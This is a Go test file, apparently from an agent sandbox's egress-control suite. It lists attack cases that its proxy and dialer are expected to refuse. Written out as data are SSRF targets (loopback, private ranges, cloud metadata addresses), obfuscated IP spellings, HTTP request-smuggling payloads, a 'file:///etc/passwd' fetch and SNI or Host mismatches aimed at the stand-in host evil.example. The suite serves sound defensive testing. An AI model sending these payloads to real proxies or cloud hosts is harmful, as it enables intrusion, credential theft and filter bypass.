package evidence

import (
	"bulkhead/internal/deny"
	"bulkhead/internal/evidence/attempt"
)

// nameAttacks are on how names are read: by the guard, and by the proxy's own
// parser.
func nameAttacks() []Attack {
	refusal := looks(string(deny.NotListed), string(deny.PortNotListed), string(deny.SpecialRange), string(deny.OwnAddress), string(deny.BadTarget))
	ask := func(id, title, reference string, names func(Agent, World) []string) []Attack {
		return []Attack{
			{
				ID: "proxy." + id, Title: title, Tries: "CONNECT through the agent's own proxy", Attempt: "proxy.connect",
				Layer: deny.LayerEgress, From: byRuntime, At: AtNobody, Reference: reference,
				Aim: func(from, _ Agent, w World) attempt.Request {
					return attempt.Request{Proxy: from.Proxy, Names: names(from, w)}
				},
				Uncontrolled: "the same guard decides as in dialer." + id + ", whose control shows it",
				Also:         append(looks("HTTP 400"), refusal...),
			},
			{
				ID: "dialer." + id, Title: title + ", with a captured gateway", Tries: "ask the dialer itself", Attempt: "dialer.dial",
				Layer: deny.LayerEgress, From: byGateway, At: AtNobody, Reference: reference,
				Aim: func(from, _ Agent, w World) attempt.Request {
					return attempt.Request{Dialer: from.Dialer, Names: names(from, w)}
				},
				Controls: []Control{{Mechanism: guard, Off: off(landlock), Witness: refusal, From: FromGateway}},
			},
		}
	}
	fixed := func(names ...string) func(Agent, World) []string {
		return func(Agent, World) []string { return names }
	}
	// No name at all is refused before the guard is asked.
	unread := func(list []Attack) []Attack {
		for i := range list {
			list[i].Controls, list[i].Also = nil, append(looks("HTTP 400"), refusal...)
			list[i].Uncontrolled = "the parser of names refuses, which is no mechanism of a Spec that could be switched off; internal/dial shows that the plain spelling passes when it is listed"
		}
		return list
	}
	var out []Attack
	for _, list := range [][]Attack{
		ask("loopback", "have the host's loopback reached", "CWE-918", func(_ Agent, w World) []string {
			return []string{w.Loopback, "localhost:" + w.Loopback[lastColon(w.Loopback)+1:], "0.0.0.0:443", "[::1]:443"}
		}),
		ask("private", "have an address of a private network reached", "RFC 1918, RFC 4193; CWE-918", fixed("10.0.0.1:443", "172.16.0.1:443", "192.168.0.1:443", "100.64.0.1:443", "[fc00::1]:443", "[fe80::1]:443", decoyUnlisted+":443")),
		unread(ask("spelling", "have an address reached that is spelled oddly", "CVE-2021-28918; CVE-2021-29921", fixed("0xcb.0.0x71.11:443", "3405803787:443", "0313.0.0161.013:443", "203.29067:443", "203.0.113.11.:443"))),
		ask("mapped", "have an address reached inside of another", "RFC 6052, RFC 3056, RFC 4291", fixed("[::ffff:169.254.169.254]:80", "[64:ff9b::a9fe:a9fe]:80", "[2002:a9fe:a9fe::1]:80", "[::169.254.169.254]:80")),
		ask("metadata_name", "have the cloud's metadata reached by name", "CWE-918", fixed("metadata.google.internal:80", "metadata:80", "instance-data.ec2.internal:80")),
		ask("resolver", "have a resolver reached that speaks DNS over TLS", "RFC 7858; MITRE ATT&CK T1071.004", fixed("1.1.1.1:853", "8.8.8.8:853", "dns.google:853")),
		ask("lookalike", "have a name reached that contains a listed one", "CWE-1289", func(from Agent, _ World) []string {
			host := "listed.example"
			if i := lastColon(from.Listed); i > 0 {
				host = from.Listed[:i]
			}
			return []string{host + ".evil.example:443", "evil" + host + ":443"}
		}),
	} {
		out = append(out, list...)
	}
	return append(append(append(out, rawProxyAttacks(refusal)...), tunnelAttacks()...), rebindingAttacks()...)
}

// rawProxyAttacks are requests that no HTTP library would send. Whatever the
// proxy makes of them, each request in them has to be refused.
func rawProxyAttacks(refusal []string) []Attack {
	raw := func(id, title, tries, reference string, requests ...string) Attack {
		return Attack{
			ID: "proxy." + id, Title: title, Tries: tries, Attempt: "proxy.raw", Layer: deny.LayerEgress, From: byRuntime, At: AtNobody, Reference: reference,
			Aim: func(from, _ Agent, _ World) attempt.Request {
				return attempt.Request{Proxy: from.Proxy, Names: requests}
			},
			Uncontrolled: "the proxy's parser is no mechanism of a Spec that could be switched off; the guard behind it has its control in dialer.unlisted, and internal/proxy shows that the same requests without their fault pass",
			Also:         append(looks("HTTP 400", "HTTP 403", "HTTP 405", "HTTP 417", "HTTP 421", "HTTP 501", "HTTP 505", "closed"), refusal...),
		}
	}
	const evilGet = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
	return []Attack{
		raw("absolute", "have an unlisted name fetched over HTTP", "GET with an absolute target", "RFC 9112, 3.2.2", evilGet),
		raw("host_mismatch", "have an unlisted name fetched with a listed Host", "GET of one name with another in Host", "RFC 9112, 3.2.2; CWE-444",
			"GET http://evil.example/ HTTP/1.1\r\nHost: listed.example\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
		raw("duplicate_host", "have the proxy and the far side read different names", "two Host fields", "RFC 9112, 3.2; CWE-444",
			"GET http://evil.example/ HTTP/1.1\r\nHost: listed.example\r\nHost: evil.example\r\n\r\n"),
		raw("userinfo", "hide the name behind a user", "GET and CONNECT with a user in the target", "RFC 9110, 4.2.4",
			"GET http://listed.example@evil.example/ HTTP/1.1\r\nHost: listed.example\r\n\r\n", "CONNECT listed.example@evil.example:443 HTTP/1.1\r\nHost: listed.example\r\n\r\n",
			"GET http://evil.example\\@listed.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
		raw("scheme", "have the proxy open what is not HTTP", "targets of ftp, file, gopher and https", "CWE-918",
			"GET ftp://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
			"GET gopher://evil.example:70/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
		raw("duplicate_length", "smuggle a request behind two lengths", "POST with two Content-Length fields", "RFC 9112, 6.3; CWE-444",
			"POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\nContent-Length: 64\r\n\r\n"+evilGet),
		raw("length_and_chunks", "smuggle a request between a length and chunks", "POST with Content-Length and Transfer-Encoding", "RFC 9112, 6.1; CWE-444",
			"POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+evilGet,
			"POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nTransfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"+evilGet),
		raw("folded", "hide a field in the fold of another", "obs-fold, and a space before the colon", "RFC 9112, 5.2; CVE-2019-16276",
			"GET http://evil.example/ HTTP/1.1\r\nX: a\r\n Host: listed.example\r\nHost: evil.example\r\n\r\n", "GET http://evil.example/ HTTP/1.1\r\nHost : listed.example\r\n\r\n"),
		raw("bare_feed", "part lines where only one side does", "line feeds and carriage returns alone", "RFC 9112, 2.2; CVE-2023-30589",
			"GET http://evil.example/ HTTP/1.1\nHost: evil.example\n\n", "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\rX: y\r\n\r\n"),
		raw("relay", "have the proxy connect to itself, or to no place at all", "CONNECT to loopback, without a port, with an odd one", "RFC 9110, 9.3.6; CWE-441",
			"CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "CONNECT evil.example HTTP/1.1\r\nHost: evil.example\r\n\r\n",
			"CONNECT evil.example:99999 HTTP/1.1\r\nHost: evil.example\r\n\r\n", "CONNECT http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "CONNECT evil.example:+443 HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
		raw("http2", "speak a protocol in which the proxy sees no names", "the preface of HTTP/2, and an upgrade to it", "RFC 9113, 3.4; RFC 7540, 3.2",
			"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
	}
}

// tunnelAttacks say another name inside a tunnel to a listed destination. They
// need one that answers.
func tunnelAttacks() []Attack {
	tunnel := func(id, title, tries, reference string, also []string, bytes ...string) Attack {
		return Attack{
			ID: "proxy." + id, Title: title, Tries: tries, Attempt: "proxy.tunnel", Layer: deny.LayerEgress, From: byRuntime, At: AtNobody, Reference: reference,
			Aim: func(from, _ Agent, _ World) attempt.Request {
				return attempt.Request{Proxy: from.Proxy, Names: append([]string{from.Named}, bytes...)}
			},
			Absent: func(from, _ Agent) (who, why string) {
				if from.Named == "" {
					return from.Name, "its manifest lists no destination that is bound to a name"
				}
				return "", ""
			},
			Uncontrolled: "what is said in a tunnel is judged by the gateway, which is no mechanism of a Spec that could be switched off; that the right name passes is shown by test/system/egress",
			Also:         also,
		}
	}
	return []Attack{
		tunnel("sni", "reach a foreign site on a listed address", "a ClientHello with another server name, and with none", "RFC 6066, 3; MITRE ATT&CK T1090.004", looks("alert", "closed"), "ClientHello evil.example"),
		tunnel("tunnel_host", "reach a foreign site on a listed address, over HTTP", "a request with another Host", "RFC 9112, 3.2; MITRE ATT&CK T1090.004",
			looks("HTTP 403", "HTTP 400", string(deny.NameMismatch), string(deny.BadTarget), "alert", "closed"), "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"),
	}
}
